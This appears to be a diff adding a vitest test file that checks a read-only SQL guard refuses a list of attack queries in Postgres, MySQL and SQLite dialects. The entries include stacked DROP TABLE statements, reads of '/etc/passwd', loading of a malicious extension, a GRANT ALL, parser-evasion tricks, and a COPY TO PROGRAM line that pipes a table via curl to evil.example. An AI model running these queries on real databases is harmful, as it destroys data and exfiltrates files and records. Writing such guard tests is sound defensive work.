@@ -1,0 +1,152 @@
+import { describe, it } from 'vitest';
+import { checkReadOnlySql, type Dialect } from '../../src/guard/index.js';
+import { expectRefusal } from './refusal.js';
+
+type Attack = [sql: string, rule: string];
+
+const postgres: Attack[] = [
+  // stacked statements, including separators hidden from naive lexers
+  ['SELECT 1; COMMIT; DROP TABLE users', 'read-only.single-statement'],
+  ["SELECT '\\'; DROP TABLE users --'", 'read-only.single-statement'],
+  ['SELECT $x$ $$ $x$; DROP TABLE users', 'read-only.single-statement'],
+  ['SELECT /* /* nested */ ; */ 1; DROP TABLE users', 'read-only.single-statement'],
+  ['SELECT "a;b" FROM users; DELETE FROM users', 'read-only.single-statement'],
+  // data-modifying CTEs, anywhere
+  ['WITH x AS (DELETE FROM users RETURNING *) SELECT * FROM x', 'read-only.cte-write'],
+  ['WITH x AS (INSERT INTO users DEFAULT VALUES RETURNING id) SELECT 1', 'read-only.cte-write'],
+  ['SELECT * FROM users WHERE id IN (WITH d AS (UPDATE users SET name = 1 RETURNING id) SELECT id FROM d)', 'read-only.cte-write'],
+  ['WITH a AS (SELECT 1), b AS (MERGE INTO users u USING a ON true WHEN MATCHED THEN DELETE RETURNING u.id) SELECT * FROM b', 'read-only.cte-write'],
+  // INTO and locking
+  ['SELECT * INTO stolen FROM users', 'read-only.into'],
+  ['SELECT * FROM users FOR UPDATE', 'read-only.locking'],
+  ['SELECT * FROM (SELECT * FROM users FOR SHARE SKIP LOCKED) s', 'read-only.locking'],
+  // side-effecting functions in every position
+  ["SELECT pg_read_file('/etc/passwd')", 'read-only.function'],
+  ["SELECT * FROM pg_ls_dir('/')", 'read-only.function'],
+  ['SELECT * FROM ROWS FROM (pg_sleep(1)) AS s', 'read-only.function'],
+  ['SELECT 1 FROM users WHERE pg_sleep(5) IS NOT NULL', 'read-only.function'],
+  ['SELECT id FROM users ORDER BY pg_sleep(1)', 'read-only.function'],
+  ['SELECT 1 FROM users GROUP BY pg_sleep(1)', 'read-only.function'],
+  ['SELECT array_agg(id ORDER BY pg_sleep(0.1)) FROM users', 'read-only.function'],
+  ['SELECT * FROM users u CROSS JOIN LATERAL (SELECT pg_advisory_lock(u.id)) l', 'read-only.function'],
+  ['SELECT pg_try_advisory_xact_lock(1)', 'read-only.function'],
+  ["SELECT COALESCE(NULL, pg_read_binary_file('/etc/passwd'))", 'read-only.function'],
+  ['SELECT (SELECT max(g) FROM generate_series(1, pg_sleep(1)::text::int) g)', 'read-only.function'],
+  ["SELECT set_config('statement_timeout', '0', false)", 'read-only.function'],
+  ["SELECT lo_import('/etc/passwd')", 'read-only.function'],
+  ["SELECT lo_export(1234, '/tmp/x')", 'read-only.function'],
+  ["SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", 'read-only.function'],
+  ["SELECT query_to_xml('DELETE FROM users RETURNING *', true, true, '')", 'read-only.function'],
+  ["SELECT ts_stat('SELECT to_tsvector(name) FROM users')", 'read-only.function'],
+  ['SELECT pg_catalog.pg_terminate_backend(123)', 'read-only.function'],
+  ['SELECT pg_cancel_backend(pid) FROM pg_stat_activity', 'read-only.function'],
+  ['SELECT "pg_sleep"(1)', 'read-only.function'],
+  ["SELECT nextval('users_id_seq')", 'read-only.function'],
+  ["SELECT pg_notify('channel', 'payload')", 'read-only.function'],
+  ['SELECT txid_current()', 'read-only.function'],
+  ['SELECT pg_reload_conf()', 'read-only.function'],
+  ["SELECT table_to_xml('api_keys', true, true, '')", 'read-only.function'],
+  // EXPLAIN
+  ['EXPLAIN ANALYZE DELETE FROM users', 'read-only.explain-analyze'],
+  ['EXPLAIN (ANALYZE, FORMAT JSON) SELECT 1', 'read-only.explain-analyze'],
+  ['EXPLAIN DELETE FROM users', 'read-only.statement-kind'],
+  // statements that are not reads
+  ["COPY users TO PROGRAM 'curl -d @- evil.example'", 'read-only.statement-kind'],
+  ["COPY (SELECT 1) TO '/tmp/x'", 'read-only.statement-kind'],
+  ['SET statement_timeout = 0', 'read-only.statement-kind'],
+  ["DO $$BEGIN PERFORM pg_sleep(1); END$$", 'read-only.statement-kind'],
+  ['COMMIT', 'read-only.statement-kind'],
+  ['CALL cleanup()', 'read-only.statement-kind'],
+  ['LISTEN channel', 'read-only.statement-kind'],
+  ['PREPARE p AS SELECT 1', 'read-only.statement-kind'],
+  ['LOCK TABLE users', 'read-only.statement-kind'],
+  ['DISCARD ALL', 'read-only.statement-kind'],
+  ['REFRESH MATERIALIZED VIEW stats', 'read-only.statement-kind'],
+  // unparseable text fails closed
+  ['SELEC 1', 'read-only.parse'],
+  ["SELECT 'unterminated", 'read-only.parse'],
+  ['', 'read-only.parse'],
+];
+
+const mysql: Attack[] = [
+  ['SELECT 1; DROP TABLE users', 'read-only.single-statement'],
+  ["SELECT 1 # comment\n; DROP TABLE users", 'read-only.single-statement'],
+  ['SELECT `a;b` FROM users; DROP TABLE users', 'read-only.single-statement'],
+  ["SELECT 'it''s;'; DROP TABLE users", 'read-only.single-statement'],
+  // executable comments: node-sql-parser skips them, MySQL runs them
+  ['SELECT 1 /*!50000 , SLEEP(5) */', 'read-only.executable-comment'],
+  ['SELECT 1 /*! ; DROP TABLE users */', 'read-only.executable-comment'],
+  ['SELECT 1 /*M! , SLEEP(5) */', 'read-only.executable-comment'],
+  ["SELECT 'x' /*!*/", 'read-only.executable-comment'],
+  // lexer differentials: backslashes and double quotes depend on sql_mode, "--x" is not a comment
+  ["SELECT 'a\\', SLEEP(5) -- '", 'read-only.ambiguous-syntax'],
+  ["SELECT 'a\\'; DROP TABLE users -- '", 'read-only.ambiguous-syntax'],
+  ['SELECT "a\\", SLEEP(5) -- "', 'read-only.ambiguous-syntax'],
+  ['SELECT 1 --SLEEP(5)', 'read-only.ambiguous-syntax'],
+  ['SELECT\u00a0SLEEP(1)', 'read-only.ambiguous-syntax'],
+  // side-effecting functions
+  ['SELECT SLEEP(5)', 'read-only.function'],
+  ["SELECT BENCHMARK(10000000, MD5('x'))", 'read-only.function'],
+  ["SELECT GET_LOCK('x', 10)", 'read-only.function'],
+  ['SELECT RELEASE_ALL_LOCKS()', 'read-only.function'],
+  ["SELECT LOAD_FILE('/etc/passwd')", 'read-only.function'],
+  ["SELECT MASTER_POS_WAIT('log', 1)", 'read-only.function'],
+  ["SELECT sys_exec('id')", 'read-only.function'],
+  ['SELECT * FROM users WHERE id = (SELECT SLEEP(1))', 'read-only.function'],
+  ['SELECT id FROM users ORDER BY SLEEP(1)', 'read-only.function'],
+  ["SELECT name FROM users UNION SELECT LOAD_FILE('/etc/passwd')", 'read-only.function'],
+  ['SELECT * FROM users u JOIN orders o ON o.user_id = u.id AND SLEEP(1) = 0', 'read-only.function'],
+  // files, variables, locks, session state
+  ["SELECT * FROM users INTO OUTFILE '/tmp/x'", 'read-only.into'],
+  ["SELECT * FROM users INTO DUMPFILE '/tmp/x'", 'read-only.into'],
+  ['SELECT id INTO @v FROM users', 'read-only.into'],
+  ['SELECT @a := 1', 'read-only.session-state'],
+  ['SELECT * FROM users FOR UPDATE', 'read-only.locking'],
+  ['SELECT * FROM users LOCK IN SHARE MODE', 'read-only.locking'],
+  // not reads
+  ['SET GLOBAL general_log = 1', 'read-only.statement-kind'],
+  ['INSERT INTO users VALUES (1)', 'read-only.statement-kind'],
+  ["LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE users", 'read-only.statement-kind'],
+  ['USE mysql', 'read-only.statement-kind'],
+  ["GRANT ALL ON *.* TO 'x'@'%'", 'read-only.statement-kind'],
+  ['DO SLEEP(1)', 'read-only.parse'],
+  ['HANDLER users OPEN', 'read-only.parse'],
+  ['SELECT 1 /* unterminated', 'read-only.parse'],
+];
+
+const sqlite: Attack[] = [
+  ['SELECT 1; DROP TABLE users', 'read-only.single-statement'],
+  ["SELECT '--'; DELETE FROM users", 'read-only.single-statement'],
+  ["SELECT load_extension('/tmp/evil.so')", 'read-only.function'],
+  ["SELECT writefile('/tmp/x', 'data')", 'read-only.function'],
+  ["SELECT readfile('/etc/passwd')", 'read-only.function'],
+  ["SELECT fts3_tokenizer('simple', x'41')", 'read-only.function'],
+  ["SELECT * FROM users WHERE id IN (SELECT edit('x'))", 'read-only.function'],
+  ["SELECT name FROM users WHERE load_extension('x') IS NULL", 'read-only.function'],
+  ["ATTACH DATABASE '/tmp/x.db' AS x", 'read-only.statement-kind'],
+  ['DELETE FROM users', 'read-only.statement-kind'],
+  ['REPLACE INTO users (id) VALUES (1)', 'read-only.statement-kind'],
+  ['PRAGMA writable_schema = ON', 'read-only.pragma'],
+  ['PRAGMA journal_mode = DELETE', 'read-only.pragma'],
+  ['PRAGMA journal_mode(DELETE)', 'read-only.pragma'],
+  ['PRAGMA query_only = 0', 'read-only.pragma'],
+  ['PRAGMA main.user_version = 7', 'read-only.pragma'],
+  ['PRAGMA optimize', 'read-only.pragma'],
+  ['PRAGMA table_info(users); DROP TABLE users', 'read-only.single-statement'],
+  ["VACUUM INTO '/tmp/copy.db'", 'read-only.parse'],
+  ['DETACH DATABASE x', 'read-only.parse'],
+  // SQLite has no "#" comments and no backslash escapes; node-sql-parser thinks otherwise
+  ["SELECT 1 # , load_extension('x')", 'read-only.ambiguous-syntax'],
+  ["SELECT 'a\\', load_extension('x') -- '", 'read-only.ambiguous-syntax'],
+  ['SELECT * FROM "a""b"', 'read-only.ambiguous-syntax'],
+];
+
+const suites: [Dialect, Attack[]][] = [['postgres', postgres], ['mysql', mysql], ['sqlite', sqlite]];
+
+for (const [dialect, attacks] of suites) {
+  describe(`${dialect} attacks are refused`, () => {
+    it.each(attacks)('%s → %s', async (sql, rule) => {
+      await expectRefusal(checkReadOnlySql(sql, dialect, {}), rule);
+    });
+  });
+}
